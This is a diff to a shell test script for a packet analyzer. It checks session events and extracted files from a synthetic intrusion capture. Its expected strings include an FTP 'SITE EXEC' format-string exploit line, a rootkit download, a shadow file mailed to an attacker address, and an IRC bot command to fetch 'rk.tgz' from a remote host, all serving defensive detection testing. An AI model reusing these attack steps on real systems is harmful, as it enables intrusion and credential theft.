@@ -14,6 +14,9 @@ corpus="${CONFORMANCE_DIR:-$root/../shared/conformance/tcpdump-4.99.3}"
 mkdir -p "$dir"
 export TZ=GMT0
 pass=0 fail=0
+# 1 once src/session/http.c parses HTTP: the demo's HTTP download must then
+# be a fileinfo event (the check is told as NOT RUN meanwhile)
+demo_http_check=${DEMO_HTTP_CHECK:-0}
 ok() { pass=$((pass + 1)); }
 bad() { fail=$((fail + 1)); echo "FAIL session $*"; }
 has() { grep -qF -- "$2" "$1" && ok || bad "no line with '$2' in $1"; }
@@ -26,12 +29,31 @@ has "$dir/demo.txt" 'ftp 61.219.90.180.3711 > 192.168.100.45.21: SITE EXEC %020d
 has "$dir/demo.txt" 'irc 172.16.134.191.1030 > 209.126.161.29.6667: > NICK rbot-4711'
 has "$dir/demo.txt" 'irc 172.16.134.191.1030 > 209.126.161.29.6667: > JOIN #owned'
 has "$dir/demo.txt" 'irc 172.16.134.191.1030 > 209.126.161.29.6667: < :irc.example.net 001 rbot-4711 :Welcome'
-n=$(grep -c . "$dir/demo.txt")
-[ "$n" = 8 ] && ok || bad "demo: $n events, want 8"
+has "$dir/demo.txt" 'ftp 192.168.100.45.1034 > 211.20.37.60.21: PASV -> 227 Entering Passive Mode (211,20,37,60,18,53). data port 4661 passive'
+has "$dir/demo.txt" 'ftp_data 192.168.100.45.1035 > 211.20.37.60.4661: RETR lrk5.tgz user anonymous size 6000 sha256 e8dcc3e75f151ab399cd3ab03a10033f899f6a3f216ec81d61d510386b4386ec'
+has "$dir/demo.txt" 'smtp 192.168.100.45.1036 > 207.46.104.20.25: HELO localhost.localdomain FROM <root@localhost.localdomain> TO <h4x0r@hush.example> Subject: 192.168.100.45 owned attachments: shadow'
+has "$dir/demo.txt" 'irc 172.16.134.191.1030 > 209.126.161.29.6667: < :h4x0r!~h@61.219.90.180 PRIVMSG #owned :!get http://64.124.157.48/x/rk.tgz'
+# the events of the parsers here (HTTP's and DNS's are counted apart)
+n=$(grep -vcE '^[0-9:.]+ (http|dns) |\.80: |\.53: ' "$dir/demo.txt")
+[ "$n" = 20 ] && ok || bad "demo: $n events, want 20"
+has "$dir/demo.txt" 'dns 10.10.253.34.2400 > 192.5.5.241.53: answer 54517 NOERROR A www.bluecoat.com: 66.150.8.52'
+n=$(grep -cE '^[0-9:.]+ dns ' "$dir/demo.txt")
+[ "$n" = 2 ] && ok || bad "demo: $n dns events, want 2 (the query and its answer)"
 
 "$bin" -r "$dir/demo.pcap" --sessions --json >"$dir/demo.json" 2>/dev/null || bad "--sessions --json exited $?"
 if command -v jq >/dev/null; then
-	jq -e -s 'length == 8' "$dir/demo.json" >/dev/null && ok || bad "demo.json: not 8 JSON events"
+	jq -e -s '[.[] | select(.event_type != "http" and .event_type != "dns" and .dest_port != 80 and .dest_port != 53)]
+	          | group_by(.event_type) | map({(.[0].event_type): length}) | add
+	          == {"fileinfo":2,"ftp":11,"ftp_data":1,"irc":5,"smtp":1}' "$dir/demo.json" >/dev/null && ok ||
+		bad "demo.json: not the 20 JSON events planted (fileinfo 2, ftp 11, ftp_data 1, irc 5, smtp 1)"
+	jq -e -s '[.[] | select(.event_type == "ftp_data")] | length == 1 and .[0].ftp_data.command == "RETR"
+	          and .[0].ftp_data.filename == "lrk5.tgz" and .[0].ftp_data.size == 6000 and .[0].app_proto == "ftp-data"
+	          and .[0].ftp_data.state == "CLOSED" and .[0].dest_port == 4661' "$dir/demo.json" >/dev/null && ok ||
+		bad "demo.json: the ftp_data event"
+	jq -e -s '[.[] | select(.event_type == "smtp")] | length == 1 and .[0].email.subject == "192.168.100.45 owned"
+	          and .[0].email.attachment == ["shadow"] and .[0].email.to == ["h4x0r@hush.example"]
+	          and .[0].email.status == "PARSE_DONE" and .[0].smtp.rcpt_to == ["<h4x0r@hush.example>"]' \
+		"$dir/demo.json" >/dev/null && ok || bad "demo.json: the smtp event"
 	jq -e -s '[.[] | select(.event_type == "ftp" and .ftp.command == "USER" and .ftp.command_data == "ftp"
 	          and .ftp.completion_code == [331] and .src_ip == "61.219.90.180" and .dest_port == 21)] | length == 1' \
 		"$dir/demo.json" >/dev/null && ok || bad "demo.json: the FTP USER event"
@@ -40,6 +62,51 @@ if command -v jq >/dev/null; then
 		bad "demo.json: the IRC JOIN event"
 	jq -e -s 'all(.[]; (.community_id | test("^1:[A-Za-z0-9+/]{27}=$")) and (.timestamp | test("^2001-10-07T")))' \
 		"$dir/demo.json" >/dev/null && ok || bad "demo.json: community_id or timestamp"
+
+	# ---- the seed's questions, one command each (as tools/demo.sh runs them)
+	# What did the intruder type over FTP?  Both FTP sessions' commands, in order.
+	"$bin" -r "$dir/demo.pcap" --sessions 'port 21' 2>/dev/null | sed -E 's/^[^:]+:[^:]+:[^:]+: //; s/ -> .*//' >"$dir/q-ftp.txt"
+	printf '%s\n' '220 localhost.localdomain FTP server (Version wu-2.6.0(1) Mon Feb 28 10:30:36 EST 2000) ready.' \
+		'USER ftp' 'PASS mozilla@' '220 ProFTPD 1.2.0pre10 Server (warez) [211.20.37.60]' 'USER anonymous' \
+		'PASS root@' 'TYPE I' 'PASV' 'RETR lrk5.tgz' 'QUIT' 'SITE EXEC %020d|%.f%.f|' >"$dir/q-ftp.want"
+	cmp -s "$dir/q-ftp.txt" "$dir/q-ftp.want" && ok || bad "question 1 (FTP commands): $(diff "$dir/q-ftp.want" "$dir/q-ftp.txt" | head -5)"
+	# Which files were fetched or sent, and their SHA-256 (--extract DIR, DIR/files.json);
+	# the planted bytes: xorshift32 from gen.c's seeds (recomputed here), the shadow text
+	rm -rf "$dir/x"
+	mkdir -p "$dir/x"
+	"$bin" -r "$dir/demo.pcap" --extract "$dir/x" 2>/dev/null || bad "--extract exited $?"
+	ftp_sha=$(python3 -c '
+import hashlib
+x, out = 0x1f7e2001, bytearray()
+for _ in range(6000):
+    x ^= (x << 13) & 0xffffffff; x ^= x >> 17; x ^= (x << 5) & 0xffffffff; out.append(x >> 24)
+print(hashlib.sha256(out).hexdigest())')
+	[ "$ftp_sha" = e8dcc3e75f151ab399cd3ab03a10033f899f6a3f216ec81d61d510386b4386ec ] && ok || bad "python: the FTP file's planted sha256"
+	shadow_sha=b1de8ce05d7dc82e219d62558e94f8e1ac7aa86ec4769986ea26ba79ec053e7e
+	jq -e -s --arg f "$ftp_sha" --arg s "$shadow_sha" '[.[] | select(.app_proto != "http") | .fileinfo | [.filename, .sha256, .state, .stored]]
+	          == [["lrk5.tgz", $f, "CLOSED", true], ["shadow", $s, "CLOSED", true]]' "$dir/x/files.json" >/dev/null && ok ||
+		bad "question 2: files.json: $(head -c 300 "$dir/x/files.json")"
+	[ "$(sha256sum <"$dir/x/files/$ftp_sha" | cut -c1-64)" = "$ftp_sha" ] && ok || bad "question 2: x/files/$ftp_sha"
+	grep -q '^root:\$1\$Vg2aNc7J\$' "$dir/x/files/$shadow_sha" && [ "$(wc -l <"$dir/x/files/$shadow_sha")" = 6 ] && ok ||
+		bad "question 2: the mailed shadow file"
+	"$bin" -r "$dir/demo.pcap" --sessions --json 2>/dev/null | jq -r 'select(.event_type == "fileinfo") | .fileinfo | "\(.filename) \(.sha256)"' >"$dir/q-files.txt"
+	grep -qx "lrk5.tgz $ftp_sha" "$dir/q-files.txt" && grep -qx "shadow $shadow_sha" "$dir/q-files.txt" && ok ||
+		bad "question 2 (--sessions --json | jq): $(cat "$dir/q-files.txt")"
+	# The bot's HTTP download (GET /x/rk.tgz, 5000 bytes): its fileinfo, once
+	# src/session/http.c parses HTTP (demo_http_check, at the top).
+	if [ "$demo_http_check" = 1 ]; then
+		jq -e -s '[.[] | select(.fileinfo.sha256 == "8cfcca06cfec7eb5ad1c948fbe802ba8565a4bb6fb7264b746ba638ab95531dd"
+		          and (.fileinfo.filename | endswith("rk.tgz")) and .fileinfo.size == 5000 and .fileinfo.direction == "to_client"
+		          and .dest_port == 80)] | length == 1' "$dir/x/files.json" >/dev/null && ok ||
+			bad "question 2: the HTTP download /x/rk.tgz in files.json (needs the HTTP parser)"
+	else
+		echo "session: NOT RUN: the HTTP download's fileinfo check (demo_http_check=0: the HTTP parser is not in yet)"
+	fi
+	# Which channel did the bot join, and what was it told?
+	[ "$("$bin" -r "$dir/demo.pcap" --sessions --json 'port 6667' 2>/dev/null | jq -r 'select(.irc.command == "JOIN") | .irc.params')" = "#owned" ] &&
+		ok || bad "question 3: the channel"
+	[ "$("$bin" -r "$dir/demo.pcap" --sessions --json 'port 6667' 2>/dev/null | jq -r 'select(.irc.command == "PRIVMSG") | .irc.text')" = \
+	  "!get http://64.124.157.48/x/rk.tgz" ] && ok || bad "question 3: the order"
 else
 	bad "jq is needed (apt-get install jq)"
 fi
